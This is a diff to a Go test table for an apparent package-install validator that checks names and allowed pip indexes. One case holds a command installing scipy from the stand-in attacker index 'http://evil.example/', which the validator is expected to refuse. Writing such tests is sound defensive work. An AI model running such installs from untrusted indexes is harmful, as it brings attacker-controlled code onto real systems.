@@ -42,7 +42,7 @@ packages:
 		{"-r req.txt", "", "packages", 0, "is not the name of a package", ""},
 		{"*", "", "packages", 0, "is not the name of a package", ""},
 		{"scipy", "pip install -i https://packages.example.org/simple scipy", "packages", 4, "allowed", ""},
-		{"scipy", "subprocess.run(['pip', 'install', '--index-url', 'http://evil.example/', 'scipy'])", "packages.indexes", 6, "installing from http://evil.example/ is refused", "packages: {indexes: [default, \"http://evil.example/\"]}"},
+		{"scipy", "subprocess.run(['pip', 'install', '--index-url', 'http://evil.example/', 'scipy'])", "packages.indexes", 6, "installing from http://evil.example/ is refused", "packages: {indexes: [default, \"https://packages.example.org/simple\", \"http://evil.example/\"]}`, which keeps what the list has"},
 		{"scipy", "pip install --extra-index-url='https://other.example/index' scipy", "packages.indexes", 6, "https://other.example/index", ""},
 	} {
 		f := quiet()
